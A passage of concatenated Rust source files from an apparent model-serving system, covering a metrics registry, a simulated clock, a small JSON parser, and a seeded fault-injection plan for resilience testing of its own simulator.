    sum_us: AtomicU64,
    total: AtomicU64,
}

impl Histogram {
    pub fn new(buckets: &[f64]) -> Histogram {
        Histogram {
            buckets: buckets.to_vec(),
            counts: buckets.iter().map(|_| AtomicU64::new(0)).collect(),
            sum_us: AtomicU64::new(0),
            total: AtomicU64::new(0),
        }
    }

    pub fn observe(&self, secs: f64) {
        for (i, b) in self.buckets.iter().enumerate() {
            if secs <= *b {
                self.counts[i].fetch_add(1, Ordering::Relaxed);
                break;
            }
        }
        self.sum_us.fetch_add((secs * 1e6) as u64, Ordering::Relaxed);
        self.total.fetch_add(1, Ordering::Relaxed);
    }

    pub fn count(&self) -> u64 {
        self.total.load(Ordering::Relaxed)
    }

    pub fn sum_secs(&self) -> f64 {
        self.sum_us.load(Ordering::Relaxed) as f64 / 1e6
    }

    pub fn mean_secs(&self) -> f64 {
        let n = self.count();
        if n == 0 {
            0.0
        } else {
            self.sum_secs() / n as f64
        }
    }

    /// Approximate quantile from bucket counts (upper-bound estimate).
    pub fn quantile(&self, q: f64) -> f64 {
        let total = self.count();
        if total == 0 {
            return 0.0;
        }
        let target = (q * total as f64).ceil() as u64;
        let mut cum = 0u64;
        for (i, b) in self.buckets.iter().enumerate() {
            cum += self.counts[i].load(Ordering::Relaxed);
            if cum >= target {
                return *b;
            }
        }
        *self.buckets.last().unwrap()
    }
}

/// Key = (metric name, rendered label string like `{model="tiny"}`).
type Key = (String, String);

/// A process-wide registry. Cheap to clone (Arc inside).
#[derive(Clone, Default)]
pub struct Registry {
    inner: Arc<RegistryInner>,
}

#[derive(Default)]
struct RegistryInner {
    counters: Mutex<BTreeMap<Key, Arc<Counter>>>,
    gauges: Mutex<BTreeMap<Key, Arc<Gauge>>>,
    histograms: Mutex<BTreeMap<Key, Arc<Histogram>>>,
}

fn render_labels(labels: &[(&str, &str)]) -> String {
    if labels.is_empty() {
        return String::new();
    }
    let parts: Vec<String> =
        labels.iter().map(|(k, v)| format!("{k}=\"{}\"", v.replace('"', "'"))).collect();
    format!("{{{}}}", parts.join(","))
}

impl Registry {
    pub fn new() -> Registry {
        Registry::default()
    }

    pub fn counter(&self, name: &str, labels: &[(&str, &str)]) -> Arc<Counter> {
        let key = (name.to_string(), render_labels(labels));
        self.inner.counters.lock().unwrap().entry(key).or_default().clone()
    }

    pub fn gauge(&self, name: &str, labels: &[(&str, &str)]) -> Arc<Gauge> {
        let key = (name.to_string(), render_labels(labels));
        self.inner.gauges.lock().unwrap().entry(key).or_default().clone()
    }

    pub fn histogram(&self, name: &str, labels: &[(&str, &str)]) -> Arc<Histogram> {
        let key = (name.to_string(), render_labels(labels));
        self.inner
            .histograms
            .lock()
            .unwrap()
            .entry(key)
            .or_insert_with(|| Arc::new(Histogram::new(LATENCY_BUCKETS)))
            .clone()
    }

    /// Poll [`render`](Registry::render) until one of its lines equals
    /// `needle` (e.g. `metric{label="x"} 1` — whole-line match, so `} 1`
    /// never false-positives on `} 10`) or the timeout passes. Counters
    /// only ever grow, so a `true` is durable — the polling idiom every
    /// lifecycle test needs.
    pub fn wait_for_metric(&self, needle: &str, timeout: std::time::Duration) -> bool {
        let start = std::time::Instant::now();
        loop {
            if self.render().lines().any(|l| l == needle) {
                return true;
            }
            if start.elapsed() >= timeout {
                return false;
            }
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
    }

    /// Prometheus text exposition format.
    pub fn render(&self) -> String {
        let mut out = String::new();
        for ((name, labels), c) in self.inner.counters.lock().unwrap().iter() {
            out.push_str(&format!("{name}{labels} {}\n", c.get()));
        }
        for ((name, labels), g) in self.inner.gauges.lock().unwrap().iter() {
            out.push_str(&format!("{name}{labels} {}\n", g.get()));
        }
        for ((name, labels), h) in self.inner.histograms.lock().unwrap().iter() {
            let inner = labels.trim_start_matches('{').trim_end_matches('}');
            let mut cum = 0u64;
            for (i, b) in h.buckets.iter().enumerate() {
                cum += h.counts[i].load(Ordering::Relaxed);
                let sep = if inner.is_empty() { "" } else { "," };
                out.push_str(&format!("{name}_bucket{{{inner}{sep}le=\"{b}\"}} {cum}\n"));
            }
            out.push_str(&format!("{name}_sum{labels} {}\n", h.sum_secs()));
            out.push_str(&format!("{name}_count{labels} {}\n", h.count()));
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counter_and_gauge() {
        let r = Registry::new();
        r.counter("req_total", &[("route", "chat")]).add(3);
        r.counter("req_total", &[("route", "chat")]).inc();
        r.gauge("instances", &[]).set(5);
        assert_eq!(r.counter("req_total", &[("route", "chat")]).get(), 4);
        assert_eq!(r.gauge("instances", &[]).get(), 5);
    }

    #[test]
    fn histogram_quantiles() {
        let h = Histogram::new(LATENCY_BUCKETS);
        for _ in 0..90 {
            h.observe(0.004);
        }
        for _ in 0..10 {
            h.observe(0.2);
        }
        assert_eq!(h.count(), 100);
        assert!(h.quantile(0.5) <= 0.005);
        assert!(h.quantile(0.99) >= 0.1);
        assert!((h.mean_secs() - (90.0 * 0.004 + 10.0 * 0.2) / 100.0).abs() < 1e-3);
    }

    #[test]
    fn render_exposition() {
        let r = Registry::new();
        r.counter("hits", &[("m", "a")]).inc();
        r.histogram("lat_seconds", &[]).observe(0.003);
        let text = r.render();
        assert!(text.contains("hits{m=\"a\"} 1"));
        assert!(text.contains("lat_seconds_count 1"));
        assert!(text.contains("lat_seconds_bucket{le=\"0.005\"} 1"));
    }

    #[test]
    fn same_handle_for_same_key() {
        let r = Registry::new();
        let a = r.counter("x", &[]);
        let b = r.counter("x", &[]);
        a.inc();
        assert_eq!(b.get(), 1);
    }
}
