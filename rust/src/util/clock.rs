//! Wall-clock / simulated-clock abstraction.
//!
//! The serving hot path runs on real time; the Slurm and adoption simulators
//! need to cover months of service lifetime in milliseconds. Components that
//! must work in both worlds (the scheduler, autoscaler, analytics) take a
//! `Clock` and never call `Instant::now()` directly.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

/// Monotonic time source measured in microseconds since an arbitrary epoch.
pub trait Clock: Send + Sync {
    /// Microseconds since the clock's epoch.
    fn now_us(&self) -> u64;

    /// Sleep (real clocks) or advance (sim clocks may ignore; the driver
    /// advances explicitly).
    fn sleep(&self, d: Duration);

    fn now_secs(&self) -> f64 {
        self.now_us() as f64 / 1e6
    }
}

/// Real time, anchored at process start.
pub struct WallClock {
    epoch: Instant,
}

impl WallClock {
    pub fn new() -> Arc<WallClock> {
        Arc::new(WallClock { epoch: Instant::now() })
    }
}

impl Clock for WallClock {
    fn now_us(&self) -> u64 {
        self.epoch.elapsed().as_micros() as u64
    }

    fn sleep(&self, d: Duration) {
        std::thread::sleep(d);
    }
}

/// Simulated time: advanced explicitly by the simulation driver.
pub struct SimClock {
    us: AtomicU64,
}

impl SimClock {
    pub fn new() -> Arc<SimClock> {
        Arc::new(SimClock { us: AtomicU64::new(0) })
    }

    pub fn starting_at_us(us: u64) -> Arc<SimClock> {
        Arc::new(SimClock { us: AtomicU64::new(us) })
    }

    pub fn advance(&self, d: Duration) {
        self.us.fetch_add(d.as_micros() as u64, Ordering::SeqCst);
    }

    pub fn advance_us(&self, us: u64) {
        self.us.fetch_add(us, Ordering::SeqCst);
    }

    pub fn set_us(&self, us: u64) {
        self.us.store(us, Ordering::SeqCst);
    }
}

impl Clock for SimClock {
    fn now_us(&self) -> u64 {
        self.us.load(Ordering::SeqCst)
    }

    /// In simulation, "sleeping" advances the clock: single-threaded sim
    /// drivers rely on this so shared components written against `Clock`
    /// behave identically in both modes.
    fn sleep(&self, d: Duration) {
        self.advance(d);
    }
}

/// Unix wall time (for log timestamps and the analytics date axis).
pub fn unix_now_secs() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wall_clock_monotonic() {
        let c = WallClock::new();
        let a = c.now_us();
        std::thread::sleep(Duration::from_millis(2));
        assert!(c.now_us() > a);
    }

    #[test]
    fn sim_clock_advances() {
        let c = SimClock::new();
        assert_eq!(c.now_us(), 0);
        c.advance(Duration::from_secs(5));
        assert_eq!(c.now_us(), 5_000_000);
        c.sleep(Duration::from_millis(1));
        assert_eq!(c.now_us(), 5_001_000);
    }

    #[test]
    fn sim_clock_shared_across_threads() {
        let c = SimClock::new();
        let c2 = c.clone();
        let t = std::thread::spawn(move || c2.advance_us(1000));
        t.join().unwrap();
        assert_eq!(c.now_us(), 1000);
    }
}
