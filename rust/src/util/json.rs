//! Minimal JSON implementation (RFC 8259 subset sufficient for this system).
//!
//! Owned replacement for `serde_json` (unavailable offline). Supports the
//! full JSON data model; numbers are kept as `f64` with an `i64` fast path
//! preserved on serialization when lossless.

use std::collections::BTreeMap;
use std::fmt;

/// A JSON value.
#[derive(Debug, Clone, PartialEq)]
pub enum Json {
    Null,
    Bool(bool),
    Num(f64),
    Str(String),
    Arr(Vec<Json>),
    Obj(BTreeMap<String, Json>),
}

impl Json {
    pub fn obj() -> Json {
        Json::Obj(BTreeMap::new())
    }

    /// Builder-style insert; panics if `self` is not an object.
    pub fn set(mut self, key: &str, val: impl Into<Json>) -> Json {
        match &mut self {
            Json::Obj(m) => {
                m.insert(key.to_string(), val.into());
            }
            _ => panic!("Json::set on non-object"),
        }
        self
    }

    pub fn get(&self, key: &str) -> Option<&Json> {
        match self {
            Json::Obj(m) => m.get(key),
            _ => None,
        }
    }

    /// Path lookup: `j.at(&["choices", "0", "delta", "content"])`.
    pub fn at(&self, path: &[&str]) -> Option<&Json> {
        let mut cur = self;
        for p in path {
            cur = match cur {
                Json::Obj(m) => m.get(*p)?,
                Json::Arr(a) => a.get(p.parse::<usize>().ok()?)?,
                _ => return None,
            };
        }
        Some(cur)
    }

    pub fn as_str(&self) -> Option<&str> {
        match self {
            Json::Str(s) => Some(s),
            _ => None,
        }
    }

    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Json::Num(n) => Some(*n),
            _ => None,
        }
    }

    pub fn as_i64(&self) -> Option<i64> {
        match self {
            Json::Num(n) if n.fract() == 0.0 && n.abs() < 9.2e18 => Some(*n as i64),
            _ => None,
        }
    }

    pub fn as_u64(&self) -> Option<u64> {
        self.as_i64().and_then(|v| u64::try_from(v).ok())
    }

    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Json::Bool(b) => Some(*b),
            _ => None,
        }
    }

    pub fn as_arr(&self) -> Option<&[Json]> {
        match self {
            Json::Arr(a) => Some(a),
            _ => None,
        }
    }

    pub fn as_obj(&self) -> Option<&BTreeMap<String, Json>> {
        match self {
            Json::Obj(m) => Some(m),
            _ => None,
        }
    }

    /// Convenience: `get` + `as_str`, with default.
    pub fn str_or<'a>(&'a self, key: &str, default: &'a str) -> &'a str {
        self.get(key).and_then(|j| j.as_str()).unwrap_or(default)
    }

    pub fn f64_or(&self, key: &str, default: f64) -> f64 {
        self.get(key).and_then(|j| j.as_f64()).unwrap_or(default)
    }

    pub fn u64_or(&self, key: &str, default: u64) -> u64 {
        self.get(key).and_then(|j| j.as_u64()).unwrap_or(default)
    }

    pub fn bool_or(&self, key: &str, default: bool) -> bool {
        self.get(key).and_then(|j| j.as_bool()).unwrap_or(default)
    }

    /// Serialize to a compact string.
    pub fn dump(&self) -> String {
        let mut out = String::new();
        self.write(&mut out);
        out
    }

    fn write(&self, out: &mut String) {
        match self {
            Json::Null => out.push_str("null"),
            Json::Bool(true) => out.push_str("true"),
            Json::Bool(false) => out.push_str("false"),
            Json::Num(n) => {
                if n.fract() == 0.0 && n.abs() < 9.2e18 {
                    out.push_str(&format!("{}", *n as i64));
                } else {
                    out.push_str(&format!("{n}"));
                }
            }
            Json::Str(s) => write_escaped(s, out),
            Json::Arr(a) => {
                out.push('[');
                for (i, v) in a.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    v.write(out);
                }
                out.push(']');
            }
            Json::Obj(m) => {
                out.push('{');
                for (i, (k, v)) in m.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    write_escaped(k, out);
                    out.push(':');
                    v.write(out);
                }
                out.push('}');
            }
        }
    }

    /// Parse a JSON document. Errors carry the byte offset.
    pub fn parse(src: &str) -> Result<Json, JsonError> {
        let mut p = Parser { b: src.as_bytes(), i: 0 };
        p.skip_ws();
        let v = p.value()?;
        p.skip_ws();
        if p.i != p.b.len() {
            return Err(p.err("trailing data"));
        }
        Ok(v)
    }
}

/// Escape `s` as a JSON string literal (quotes included), appending to
/// `out`. Byte-identical to how [`Json::dump`] serializes `Json::Str` —
/// the zero-copy SSE path splices tokens into a pre-dumped chunk template
/// with this and must match a full re-serialization exactly.
pub fn escape_str_into(s: &str, out: &mut String) {
    write_escaped(s, out)
}

fn write_escaped(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JsonError {
    pub offset: usize,
    pub msg: String,
}

impl fmt::Display for JsonError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "json error at byte {}: {}", self.offset, self.msg)
    }
}

impl std::error::Error for JsonError {}

struct Parser<'a> {
    b: &'a [u8],
    i: usize,
}

impl Parser<'_> {
    fn err(&self, msg: &str) -> JsonError {
        JsonError { offset: self.i, msg: msg.to_string() }
    }

    fn skip_ws(&mut self) {
        while self.i < self.b.len() && matches!(self.b[self.i], b' ' | b'\t' | b'\n' | b'\r') {
            self.i += 1;
        }
    }

    fn peek(&self) -> Option<u8> {
        self.b.get(self.i).copied()
    }

    fn eat(&mut self, c: u8) -> Result<(), JsonError> {
        if self.peek() == Some(c) {
            self.i += 1;
            Ok(())
        } else {
            Err(self.err(&format!("expected '{}'", c as char)))
        }
    }

    fn lit(&mut self, s: &str, v: Json) -> Result<Json, JsonError> {
        if self.b[self.i..].starts_with(s.as_bytes()) {
            self.i += s.len();
            Ok(v)
        } else {
            Err(self.err("invalid literal"))
        }
    }

    fn value(&mut self) -> Result<Json, JsonError> {
        match self.peek().ok_or_else(|| self.err("unexpected end"))? {
            b'n' => self.lit("null", Json::Null),
            b't' => self.lit("true", Json::Bool(true)),
            b'f' => self.lit("false", Json::Bool(false)),
            b'"' => self.string().map(Json::Str),
            b'[' => self.array(),
            b'{' => self.object(),
            b'-' | b'0'..=b'9' => self.number(),
            _ => Err(self.err("unexpected character")),
        }
    }

    fn array(&mut self) -> Result<Json, JsonError> {
        self.eat(b'[')?;
        let mut out = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.i += 1;
            return Ok(Json::Arr(out));
        }
        loop {
            self.skip_ws();
            out.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.i += 1,
                Some(b']') => {
                    self.i += 1;
                    return Ok(Json::Arr(out));
                }
                _ => return Err(self.err("expected ',' or ']'")),
            }
        }
    }

    fn object(&mut self) -> Result<Json, JsonError> {
        self.eat(b'{')?;
        let mut out = BTreeMap::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.i += 1;
            return Ok(Json::Obj(out));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.eat(b':')?;
            self.skip_ws();
            out.insert(key, self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.i += 1,
                Some(b'}') => {
                    self.i += 1;
                    return Ok(Json::Obj(out));
                }
                _ => return Err(self.err("expected ',' or '}'")),
            }
        }
    }

    fn string(&mut self) -> Result<String, JsonError> {
        self.eat(b'"')?;
        let mut out = String::new();
        loop {
            let c = self.peek().ok_or_else(|| self.err("unterminated string"))?;
            self.i += 1;
            match c {
                b'"' => return Ok(out),
                b'\\' => {
                    let e = self.peek().ok_or_else(|| self.err("unterminated escape"))?;
                    self.i += 1;
                    match e {
                        b'"' => out.push('"'),
                        b'\\' => out.push('\\'),
                        b'/' => out.push('/'),
                        b'b' => out.push('\u{8}'),
                        b'f' => out.push('\u{c}'),
                        b'n' => out.push('\n'),
                        b'r' => out.push('\r'),
                        b't' => out.push('\t'),
                        b'u' => {
                            let cp = self.hex4()?;
                            // Surrogate pair handling.
                            let ch = if (0xD800..0xDC00).contains(&cp) {
                                if self.b[self.i..].starts_with(b"\\u") {
                                    self.i += 2;
                                    let lo = self.hex4()?;
                                    let c = 0x10000 + ((cp - 0xD800) << 10) + (lo - 0xDC00);
                                    char::from_u32(c)
                                } else {
                                    None
                                }
                            } else {
                                char::from_u32(cp)
                            };
                            out.push(ch.ok_or_else(|| self.err("invalid \\u escape"))?);
                        }
                        _ => return Err(self.err("invalid escape")),
                    }
                }
                c if c < 0x20 => return Err(self.err("control char in string")),
                c if c < 0x80 => out.push(c as char),
                _ => {
                    // Multi-byte UTF-8: copy the full sequence.
                    let start = self.i - 1;
                    let len = utf8_len(c);
                    let end = start + len;
                    if end > self.b.len() {
                        return Err(self.err("truncated utf-8"));
                    }
                    let s = std::str::from_utf8(&self.b[start..end])
                        .map_err(|_| self.err("invalid utf-8"))?;
                    out.push_str(s);
                    self.i = end;
                }
            }
        }
    }

    fn hex4(&mut self) -> Result<u32, JsonError> {
        if self.i + 4 > self.b.len() {
            return Err(self.err("truncated \\u escape"));
        }
        let s = std::str::from_utf8(&self.b[self.i..self.i + 4])
            .map_err(|_| self.err("invalid hex"))?;
        let v = u32::from_str_radix(s, 16).map_err(|_| self.err("invalid hex"))?;
        self.i += 4;
        Ok(v)
    }

    fn number(&mut self) -> Result<Json, JsonError> {
        let start = self.i;
        if self.peek() == Some(b'-') {
            self.i += 1;
        }
        while matches!(self.peek(), Some(b'0'..=b'9')) {
            self.i += 1;
        }
        if self.peek() == Some(b'.') {
            self.i += 1;
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.i += 1;
            }
        }
        if matches!(self.peek(), Some(b'e' | b'E')) {
            self.i += 1;
            if matches!(self.peek(), Some(b'+' | b'-')) {
                self.i += 1;
            }
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.i += 1;
            }
        }
        let s = std::str::from_utf8(&self.b[start..self.i]).unwrap();
        s.parse::<f64>().map(Json::Num).map_err(|_| self.err("invalid number"))
    }
}

fn utf8_len(first: u8) -> usize {
    match first {
        0xC0..=0xDF => 2,
        0xE0..=0xEF => 3,
        _ => 4,
    }
}

impl From<&str> for Json {
    fn from(s: &str) -> Json {
        Json::Str(s.to_string())
    }
}
impl From<String> for Json {
    fn from(s: String) -> Json {
        Json::Str(s)
    }
}
impl From<f64> for Json {
    fn from(n: f64) -> Json {
        Json::Num(n)
    }
}
impl From<i64> for Json {
    fn from(n: i64) -> Json {
        Json::Num(n as f64)
    }
}
impl From<u64> for Json {
    fn from(n: u64) -> Json {
        Json::Num(n as f64)
    }
}
impl From<usize> for Json {
    fn from(n: usize) -> Json {
        Json::Num(n as f64)
    }
}
impl From<u32> for Json {
    fn from(n: u32) -> Json {
        Json::Num(n as f64)
    }
}
impl From<i32> for Json {
    fn from(n: i32) -> Json {
        Json::Num(n as f64)
    }
}
impl From<bool> for Json {
    fn from(b: bool) -> Json {
        Json::Bool(b)
    }
}
impl From<Vec<Json>> for Json {
    fn from(a: Vec<Json>) -> Json {
        Json::Arr(a)
    }
}
impl<T: Into<Json> + Clone> From<&[T]> for Json {
    fn from(a: &[T]) -> Json {
        Json::Arr(a.iter().cloned().map(Into::into).collect())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_scalars() {
        for src in ["null", "true", "false", "0", "-1", "3.5", "\"hi\"", "[]", "{}"] {
            let v = Json::parse(src).unwrap();
            assert_eq!(Json::parse(&v.dump()).unwrap(), v, "src={src}");
        }
    }

    #[test]
    fn parse_nested() {
        let v = Json::parse(r#"{"a":[1,2,{"b":null}],"c":"x\ny"}"#).unwrap();
        assert_eq!(v.at(&["a", "2", "b"]), Some(&Json::Null));
        assert_eq!(v.str_or("c", ""), "x\ny");
    }

    #[test]
    fn escapes_roundtrip() {
        let v = Json::Str("quote\" back\\ nl\n tab\t ctrl\u{1} ünïcode 😀".into());
        assert_eq!(Json::parse(&v.dump()).unwrap(), v);
    }

    #[test]
    fn surrogate_pair() {
        let v = Json::parse(r#""😀""#).unwrap();
        assert_eq!(v.as_str(), Some("😀"));
    }

    #[test]
    fn numbers() {
        assert_eq!(Json::parse("1e3").unwrap().as_f64(), Some(1000.0));
        assert_eq!(Json::parse("-2.5e-1").unwrap().as_f64(), Some(-0.25));
        assert_eq!(Json::parse("42").unwrap().as_i64(), Some(42));
        assert_eq!(Json::parse("42.5").unwrap().as_i64(), None);
    }

    #[test]
    fn errors() {
        for src in ["", "{", "[1,", "\"", "{\"a\"}", "nul", "01x", "[1]x", "\"\u{1}\""] {
            assert!(Json::parse(src).is_err(), "src={src:?}");
        }
    }

    #[test]
    fn builder() {
        let j = Json::obj().set("model", "tiny").set("n", 3u64).set("ok", true);
        assert_eq!(j.dump(), r#"{"model":"tiny","n":3,"ok":true}"#);
    }

    #[test]
    fn escape_str_into_matches_dump() {
        for s in ["plain", "quote\" nl\n tab\t \\back", "ünïcode 😀 ctrl\u{1}"] {
            let mut out = String::new();
            escape_str_into(s, &mut out);
            assert_eq!(out, Json::Str(s.into()).dump());
        }
    }

    #[test]
    fn int_precision_preserved() {
        let big = 1_234_567_890_123i64;
        let j = Json::from(big);
        assert_eq!(Json::parse(&j.dump()).unwrap().as_i64(), Some(big));
    }
}
