//! Deterministic fault-injection plane (DESIGN.md §Failure policy).
//!
//! Two halves:
//!
//! - [`FaultPlan`]: a scripted (optionally seed-scattered) schedule of
//!   cluster-level fault events — node crashes, preemption storms, link
//!   flaps, gray-slow nodes, upstream outages — that `SimStack` applies on
//!   its virtual clock. A plan is pure data: the same plan against the
//!   same seed replays bit-identically, and the applied events fold into
//!   the canonical trace. An *empty* plan is contractually invisible — no
//!   trace line, no RNG draw, no behaviour change.
//! - [`LinkFaults`]: a per-frame wire-fault source for the real (wall
//!   clock) SSH transport — latency spikes, frame corruption, frame
//!   truncation — consulted by `sshsim`'s server write path. Decisions
//!   come from a seeded [`Rng`], so a given seed injects the same fault
//!   sequence on every run.

use std::fmt;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Mutex;
use std::time::Duration;

use crate::util::rng::Rng;

/// One cluster-level fault `SimStack` knows how to apply.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FaultEvent {
    /// Hard node crash (`SlurmSim::fail_node`): its jobs die NODE_FAIL.
    NodeFail { node: String },
    /// Bring a failed node back into service.
    NodeRestore { node: String },
    /// A burst of batch jobs outranking the scavenger tier: each claims
    /// `gpus_per_job` GPUs for `walltime`, preempting scavenger replicas.
    PreemptionStorm { jobs: u32, gpus_per_job: u32, walltime: Duration },
    /// The proxy↔cluster link drops: token pumps stall (streams freeze but
    /// are not dropped) until [`FaultEvent::LinkUp`].
    LinkDown,
    LinkUp,
    /// Gray failure: every instance on `node` runs its compute charges at
    /// `factor_milli`/1000 × the calibrated cost (e.g. `5000` = 5× slower)
    /// without failing any health probe.
    GraySlow { node: String, factor_milli: u64 },
    GrayRecover { node: String },
    /// Placement outage: no request can reach an instance (the cloud
    /// interface sees every upstream down) until [`FaultEvent::UpstreamUp`];
    /// queued requests keep burning their deadline/queue budgets.
    UpstreamDown,
    UpstreamUp,
}

impl FaultEvent {
    /// Canonical tag folded into the trace when the event is applied.
    pub fn trace_tag(&self) -> String {
        match self {
            FaultEvent::NodeFail { node } => format!("node_fail node={node}"),
            FaultEvent::NodeRestore { node } => format!("node_restore node={node}"),
            FaultEvent::PreemptionStorm { jobs, gpus_per_job, walltime } => format!(
                "preemption_storm jobs={jobs} gpus={gpus_per_job} walltime_s={}",
                walltime.as_secs()
            ),
            FaultEvent::LinkDown => "link_down".into(),
            FaultEvent::LinkUp => "link_up".into(),
            FaultEvent::GraySlow { node, factor_milli } => {
                format!("gray_slow node={node} factor_milli={factor_milli}")
            }
            FaultEvent::GrayRecover { node } => format!("gray_recover node={node}"),
            FaultEvent::UpstreamDown => "upstream_down".into(),
            FaultEvent::UpstreamUp => "upstream_up".into(),
        }
    }
}

/// A fault scheduled at an absolute virtual time.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TimedFault {
    pub at_us: u64,
    pub event: FaultEvent,
}

/// A deterministic schedule of fault events. Build scripted timelines with
/// [`FaultPlan::at`]; scatter probabilistic ones with [`FaultPlan::scatter`]
/// (seeded, so "random" plans replay exactly).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FaultPlan {
    events: Vec<TimedFault>,
}

impl FaultPlan {
    pub fn new() -> FaultPlan {
        FaultPlan::default()
    }

    /// Script one fault at `at_us`.
    pub fn at(mut self, at_us: u64, event: FaultEvent) -> FaultPlan {
        self.events.push(TimedFault { at_us, event });
        self
    }

    /// Probabilistic expansion: draw `n` event times uniformly in
    /// `[start_us, end_us]` from `rng` and script `make(rng, at_us)` at
    /// each. Everything derives from the caller's seeded `rng`, so the
    /// scatter is as replayable as a hand-written script.
    pub fn scatter(
        mut self,
        rng: &mut Rng,
        n: u32,
        start_us: u64,
        end_us: u64,
        make: impl Fn(&mut Rng, u64) -> FaultEvent,
    ) -> FaultPlan {
        for _ in 0..n {
            let at_us = rng.range(start_us.min(end_us), end_us.max(start_us));
            let event = make(rng, at_us);
            self.events.push(TimedFault { at_us, event });
        }
        self
    }

    /// An empty plan is the no-faults contract: trace-neutral by design.
    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }

    pub fn len(&self) -> usize {
        self.events.len()
    }

    pub fn events(&self) -> &[TimedFault] {
        &self.events
    }
}

/// Per-frame outcome drawn from [`LinkFaults`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FrameFault {
    /// Deliver the frame untouched.
    Pass,
    /// Deliver after an extra wire-latency spike (gray-slow lane).
    Delay(Duration),
    /// Deliver with the sealed bytes clobbered: the peer's MAC check
    /// fails and the lane dies as if the wire flipped bits.
    Corrupt,
    /// Deliver a prefix of the frame and drop the connection: the peer
    /// observes a mid-frame lane death.
    Truncate,
}

/// Seeded per-frame wire-fault source for the SSH transport. Probabilities
/// are per server→client frame; counters record what was actually
/// injected so tests can assert the fault path really ran.
pub struct LinkFaults {
    truncate_per_frame: f64,
    corrupt_per_frame: f64,
    delay_per_frame: f64,
    delay_spike: Duration,
    rng: Mutex<Rng>,
    /// Frames delivered with clobbered bytes.
    pub corrupted: AtomicU64,
    /// Frames cut short (lane dropped mid-frame).
    pub truncated: AtomicU64,
    /// Frames delayed by a latency spike.
    pub delayed: AtomicU64,
}

impl LinkFaults {
    /// A fault source that injects nothing until probabilities are set.
    pub fn new(seed: u64) -> LinkFaults {
        LinkFaults {
            truncate_per_frame: 0.0,
            corrupt_per_frame: 0.0,
            delay_per_frame: 0.0,
            delay_spike: Duration::ZERO,
            rng: Mutex::new(Rng::new(seed)),
            corrupted: AtomicU64::new(0),
            truncated: AtomicU64::new(0),
            delayed: AtomicU64::new(0),
        }
    }

    pub fn with_truncate(mut self, per_frame: f64) -> LinkFaults {
        self.truncate_per_frame = per_frame;
        self
    }

    pub fn with_corrupt(mut self, per_frame: f64) -> LinkFaults {
        self.corrupt_per_frame = per_frame;
        self
    }

    pub fn with_delay_spike(mut self, per_frame: f64, spike: Duration) -> LinkFaults {
        self.delay_per_frame = per_frame;
        self.delay_spike = spike;
        self
    }

    /// Draw the fate of the next frame. Lane-fatal faults win over
    /// recoverable ones so a plan mixing all three stays meaningful.
    pub fn next_frame_fault(&self) -> FrameFault {
        let mut rng = self.rng.lock().unwrap();
        if self.truncate_per_frame > 0.0 && rng.chance(self.truncate_per_frame) {
            self.truncated.fetch_add(1, Ordering::Relaxed);
            return FrameFault::Truncate;
        }
        if self.corrupt_per_frame > 0.0 && rng.chance(self.corrupt_per_frame) {
            self.corrupted.fetch_add(1, Ordering::Relaxed);
            return FrameFault::Corrupt;
        }
        if self.delay_per_frame > 0.0 && rng.chance(self.delay_per_frame) {
            self.delayed.fetch_add(1, Ordering::Relaxed);
            return FrameFault::Delay(self.delay_spike);
        }
        FrameFault::Pass
    }
}

impl fmt::Debug for LinkFaults {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("LinkFaults")
            .field("truncate_per_frame", &self.truncate_per_frame)
            .field("corrupt_per_frame", &self.corrupt_per_frame)
            .field("delay_per_frame", &self.delay_per_frame)
            .field("delay_spike", &self.delay_spike)
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plan_builder_scripts_and_scatters_deterministically() {
        let plan = FaultPlan::new()
            .at(5_000_000, FaultEvent::NodeFail { node: "ggpu01".into() })
            .at(9_000_000, FaultEvent::LinkDown);
        assert_eq!(plan.len(), 2);
        assert!(!plan.is_empty());
        assert!(FaultPlan::new().is_empty());

        let scatter = |seed: u64| {
            FaultPlan::new().scatter(&mut Rng::new(seed), 4, 1_000_000, 2_000_000, |_, _| {
                FaultEvent::LinkDown
            })
        };
        assert_eq!(scatter(9), scatter(9), "seeded scatter must replay");
        assert_ne!(scatter(9), scatter(10));
        for ev in scatter(9).events() {
            assert!((1_000_000..=2_000_000).contains(&ev.at_us));
        }
    }

    #[test]
    fn trace_tags_are_stable() {
        assert_eq!(
            FaultEvent::GraySlow { node: "n1".into(), factor_milli: 5000 }.trace_tag(),
            "gray_slow node=n1 factor_milli=5000"
        );
        assert_eq!(
            FaultEvent::PreemptionStorm {
